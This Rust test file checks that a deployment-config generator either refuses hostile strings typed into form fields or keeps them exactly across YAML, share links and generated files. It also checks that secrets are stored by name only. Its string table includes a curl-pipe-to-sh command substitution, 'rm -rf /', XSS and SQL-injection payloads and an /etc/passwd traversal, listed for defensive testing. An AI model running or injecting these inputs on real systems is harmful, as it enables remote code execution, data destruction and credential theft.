//! Issue 11: a fixed table of hostile strings, each typed into every field the form shows for
//! every preset. Each value is either refused with a message (and the project is unchanged)
//! or accepted; then the form shows exactly what was typed, every generated file still parses
//! as what it is, and the settings file and the share link bring the value back unchanged.
//! (properties.rs adds random text and random mixes of these pieces.)
#![cfg(not(target_arch = "wasm32"))]

mod common;

use common::check_bundle;
use shipshape_core::model::{Field, PRESETS, Project, from_yaml, share, to_yaml};

/// Strings that break naive YAML, HCL, shells, GitHub expressions, Helm and Go templates,
/// HTML, SQL and terminals, written whole, as a user would paste them.
fn hostile() -> Vec<String> {
    let mut strings: Vec<String> = [
        "say \"hi\"",
        "it's",
        "C:\\temp\\",
        "\\n",
        "key: value",
        "a #comment",
        "#!/bin/sh",
        "---",
        "...",
        "first\nsecond",
        "line\r\nbreak",
        "tab\there",
        " leading and trailing ",
        "",
        "${{ secrets.GITHUB_TOKEN }}",
        "${{ github.event.pull_request.title }}",
        "{{ .Values.secret }}",
        "{{- include \"x\" . -}}",
        "$(curl http://example.invalid | sh)",
        "`id`",
        "; rm -rf / #",
        "$HOME ${HOME} $$",
        "${var.password}",
        "%{ if true }x%{ endif }",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "&amp; &lt;",
        "'; DROP TABLE users; --",
        "../../etc/passwd",
        "\u{202E}txt.exe",
        "\u{200B}",
        "\u{FEFF}bom",
        "🚢⚓ 日本語 ñ",
        "*alias",
        "&anchor x",
        "!!binary AAAA",
        "? complex",
        "[a, b]",
        "{a: b}",
        "| block",
        "> folded",
        "@at",
        "%percent",
        "0x1F",
        "0o17",
        "1e3",
        "true",
        "no",
        "null",
        "~",
        "-",
        "a\u{0}nul",
        "\u{1b}[31mred",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    strings.push("x".repeat(10_000));
    strings.push("é".repeat(10_000));
    strings.push("a-".repeat(5_000));
    strings
}

/// What happened to one string in one field.
enum Outcome {
    Refused,
    Accepted,
}

fn try_one(base: &Project, field: Field, text: &str) -> Result<Outcome, String> {
    let mut project = base.clone();
    let shown = |t: &str| {
        if t.len() > 40 {
            format!("{:?}… ({} bytes)", &t[..t.floor_char_boundary(40)], t.len())
        } else {
            format!("{t:?}")
        }
    };
    let context = || format!("{} = {}", field.path(), shown(text));
    match project.set(field, text) {
        Err(error) => {
            if error.message.trim().is_empty() {
                return Err(format!("{}: refused without a message", context()));
            }
            if error.field != field {
                return Err(format!(
                    "{}: the message is for {:?}",
                    context(),
                    error.field
                ));
            }
            if project != *base {
                return Err(format!(
                    "{}: a refused value changed the project",
                    context()
                ));
            }
            Ok(Outcome::Refused)
        }
        Ok(()) => {
            let errors = project.validate();
            if !errors.is_empty() {
                return Err(format!("{}: accepted but invalid: {errors:?}", context()));
            }
            let back = project.text(field);
            if back != text {
                return Err(format!(
                    "{}: the form would show {} instead",
                    context(),
                    shown(&back)
                ));
            }
            if from_yaml(&to_yaml(&project)).as_ref() != Ok(&project) {
                return Err(format!("{}: lost in the settings file", context()));
            }
            if share::decode(&share::encode(&project)).as_ref() != Ok(&project) {
                return Err(format!("{}: lost in the share link", context()));
            }
            check_bundle(&project).map_err(|e| format!("{}: {e}", context()))?;
            Ok(Outcome::Accepted)
        }
    }
}

/// Every field the form shows in any preset, grouped by what it is (`services[*].port`): the
/// same field in several presets is one group, tried in each of them in turn.
fn field_groups() -> Vec<Vec<(usize, Field)>> {
    let mut groups: Vec<(String, Vec<(usize, Field)>)> = Vec::new();
    for (index, preset) in PRESETS.iter().enumerate() {
        for field in preset.project().fields() {
            let kind: String = field
                .path()
                .split(|c: char| c.is_ascii_digit())
                .collect::<Vec<_>>()
                .join("*");
            match groups.iter_mut().find(|(k, _)| *k == kind) {
                Some((_, members)) => members.push((index, field)),
                None => groups.push((kind, vec![(index, field)])),
            }
        }
    }
    groups.into_iter().map(|(_, members)| members).collect()
}

#[test]
fn every_hostile_string_in_every_field_is_refused_or_kept_exactly() {
    let table = hostile();
    let projects: Vec<Project> = PRESETS.iter().map(|p| p.project()).collect();
    let groups = field_groups();
    let mut failures = Vec::new();
    let (mut refused, mut accepted) = (0, 0);
    for members in &groups {
        for (i, text) in table.iter().enumerate() {
            // Each string in one preset that has the field, a different preset for the next.
            let (preset, field) = members[i % members.len()];
            match try_one(&projects[preset], field, text) {
                Ok(Outcome::Refused) => refused += 1,
                Ok(Outcome::Accepted) => accepted += 1,
                Err(failure) => failures.push(format!("{}: {failure}", PRESETS[preset].name)),
            }
        }
    }
    println!(
        "{} hostile strings x {} kinds of field (over {} presets): {accepted} accepted and checked, {refused} refused with a message",
        table.len(),
        groups.len(),
        PRESETS.len()
    );
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(accepted > 0 && refused > 0);
}

/// Secrets travel by name only: a secret variable refuses a value, and every Kubernetes
/// Secret any preset writes (a placeholder for the store-less case, in manifests and charts)
/// has empty values.
#[test]
fn secrets_travel_by_name_only() {
    use serde::Deserialize;
    use shipshape_core::model::ServiceField;
    let mut secrets_seen = 0;
    for preset in PRESETS {
        let project = preset.project();
        for (index, service) in project.services.iter().enumerate() {
            for (variable, var) in service.env.iter().enumerate().filter(|(_, v)| v.secret) {
                let field = Field::Service(index, ServiceField::EnvValue(variable));
                let refused = project.clone().set(field, "hunter2").unwrap_err();
                assert!(
                    refused.message.contains("never stored here"),
                    "{}",
                    var.name
                );
            }
        }
        for file in shipshape_core::generate(&project).files() {
            if !(file.path.ends_with(".yaml") || file.path.ends_with(".yml"))
                || file.path.contains("/templates/")
            {
                continue;
            }
            for document in serde_norway::Deserializer::from_str(&file.contents) {
                let doc = serde_norway::Value::deserialize(document).unwrap();
                if doc["kind"].as_str() != Some("Secret") {
                    continue;
                }
                secrets_seen += 1;
                for key in ["stringData", "data"] {
                    for (name, value) in doc[key].as_mapping().into_iter().flatten() {
                        assert_eq!(
                            value.as_str(),
                            Some(""),
                            "{}: {name:?} has a value",
                            file.path
                        );
                    }
                }
            }
        }
    }
    assert!(secrets_seen > 0, "some preset writes a placeholder Secret");
}
